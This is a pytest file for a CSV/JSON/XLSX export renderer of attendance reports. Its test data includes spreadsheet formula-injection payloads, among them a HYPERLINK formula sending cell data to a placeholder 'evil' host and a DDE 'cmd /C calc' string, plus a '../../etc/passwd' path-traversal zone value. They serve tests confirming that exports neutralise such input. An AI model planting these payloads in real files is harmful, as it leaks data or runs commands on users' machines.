"""Exports (issue #21 item 2, issue #23 item 4): one streaming renderer for CSV, JSON and XLSX.

XLSX files are read back with openpyxl, the library that wrote them.
"""

from __future__ import annotations

import io
import json
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from receiver.reports import xlsx
from receiver.reports.export import EXPORT_FORMATS, export_filename, stream_export
from receiver.reports.formatting import to_csv, to_json
from receiver.timeparse import ZoneError, parse_zone

COLUMNS = ("session_id", "display_name", "first_joined_at", "attended_seconds", "join_count", "is_guest", "names")
HOSTILE = ['=HYPERLINK("http://evil/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def rows():
    return [
        {
            "session_id": "s-1",
            "display_name": name,
            "first_joined_at": datetime(2026, 3, 2, 10, 0, 5, tzinfo=UTC),
            "attended_seconds": 1800.5,
            "join_count": 2,
            "is_guest": index % 2 == 0,
            "names": ["A", "B"],
        }
        for index, name in enumerate(HOSTILE)
    ] + [
        {
            "session_id": "s-2",
            "display_name": None,
            "first_joined_at": None,
            "attended_seconds": 0.0,
            "join_count": 1,
            "is_guest": False,
            "names": None,
        }
    ]


def workbook(fmt_rows, columns=COLUMNS, **kwargs):
    data = b"".join(stream_export(fmt_rows, columns, "xlsx", **kwargs))
    return load_workbook(io.BytesIO(data))


def test_xlsx_cells_are_typed():
    """Dates are date cells, numbers numbers, booleans booleans, null empty, lists one text cell."""
    sheet = workbook(rows(), title="Attendance")["Attendance"]
    header, first, *_, last = list(sheet.iter_rows())
    assert [c.value for c in header] == list(COLUMNS)
    joined, seconds, joins, guest, names = first[2], first[3], first[4], first[5], first[6]
    assert joined.is_date and joined.value == datetime(2026, 3, 2, 10, 0, 5)  # UTC wall time
    assert joined.number_format == xlsx.DATETIME_FORMAT
    assert (seconds.data_type, seconds.value) == ("n", 1800.5)
    assert (joins.data_type, joins.value) == ("n", 2)
    assert (guest.data_type, guest.value) == ("b", True)
    assert (names.data_type, names.value) == ("s", "A; B")
    assert last[1].value is None and last[2].value is None


def test_xlsx_text_is_never_a_formula():
    """Names starting with = + - @ are text cells holding exactly the name (no formula, no quote added)."""
    sheet = workbook(rows()).active
    names = [row[1] for row in list(sheet.iter_rows())[1:5]]
    assert [c.value for c in names] == HOSTILE
    assert {c.data_type for c in names} == {"s"}


def test_xlsx_replaces_characters_xml_cannot_carry():
    """A control character in a name (not tab/CR/LF) becomes U+FFFD instead of breaking the file."""
    sheet = workbook([{"display_name": "Bo\x07b"}], ("display_name",)).active
    assert sheet["A2"].value == "Bo\ufffdb"


def test_xlsx_times_in_a_zone_are_wall_times_named_in_the_header():
    """tz=Europe/Berlin: 10:00:05 UTC in March is 11:00:05 local; the header says which zone."""
    sheet = workbook(rows(), zone=parse_zone("Europe/Berlin")).active
    assert sheet["C1"].value == "first_joined_at (Europe/Berlin)"
    assert sheet["C2"].value == datetime(2026, 3, 2, 11, 0, 5)


def test_xlsx_continues_on_a_new_sheet_past_the_row_limit(monkeypatch):
    """More rows than a worksheet holds: the rest goes on '<title> 2', with the header again."""
    monkeypatch.setattr(xlsx, "SHEET_ROWS", 3)
    book = workbook([{"n": i} for i in range(5)], ("n",), title="report")
    assert book.sheetnames == ["report", "report 2", "report 3"]
    assert [[c.value for c in row] for row in book["report 2"].iter_rows()] == [["n"], [2], [3]]


def test_csv_and_json_streams_equal_the_whole_renderings():
    """Streamed CSV/JSON bytes are the text of to_csv/to_json (formula quoting included), also with no rows."""
    for data in (rows(), []):
        assert b"".join(stream_export(iter(data), COLUMNS, "csv")).decode() == to_csv(data, COLUMNS)
        assert b"".join(stream_export(iter(data), COLUMNS, "json")).decode() == to_json(data, COLUMNS)
    csv_text = b"".join(stream_export(rows(), COLUMNS, "csv")).decode()
    assert "'=HYPERLINK" in csv_text and "'@SUM" in csv_text


def test_csv_and_json_times_in_a_zone_carry_its_offset():
    """UTC stays ...Z; a zone gives ISO 8601 with that instant's offset (summer time included)."""
    summer = [{"t": datetime(2026, 7, 1, 10, 0, tzinfo=UTC)}]
    berlin = parse_zone("Europe/Berlin")
    assert b"".join(stream_export(summer, ("t",), "csv")).decode() == "t\n2026-07-01T10:00:00Z\n"
    assert b"".join(stream_export(summer, ("t",), "csv", zone=berlin)).decode() == "t\n2026-07-01T12:00:00+02:00\n"
    assert json.loads(b"".join(stream_export(summer, ("t",), "json", zone=berlin))) == [
        {"t": "2026-07-01T12:00:00+02:00"}
    ]


def test_unknown_format_and_zone_are_clear_errors():
    """A format outside csv/json/xlsx is a ValueError at once; a zone that is not IANA a ZoneError."""
    assert EXPORT_FORMATS == ("csv", "json", "xlsx")
    with pytest.raises(ValueError, match="unknown export format 'xml'"):
        stream_export([], COLUMNS, "xml")
    for bad in ("Mars/Olympus", "+02:00", "../../etc/passwd", "x" * 100):
        with pytest.raises(ZoneError):
            parse_zone(bad)
    assert parse_zone(None) is UTC and parse_zone("UTC") is UTC


def test_export_filename_keeps_only_safe_characters():
    """Download names: letters, digits, - and _; anything else becomes -."""
    assert export_filename("attendance", "xlsx") == "attendance.xlsx"
    assert export_filename('a"b/c\r\n', "csv") == "a-b-c--.csv"
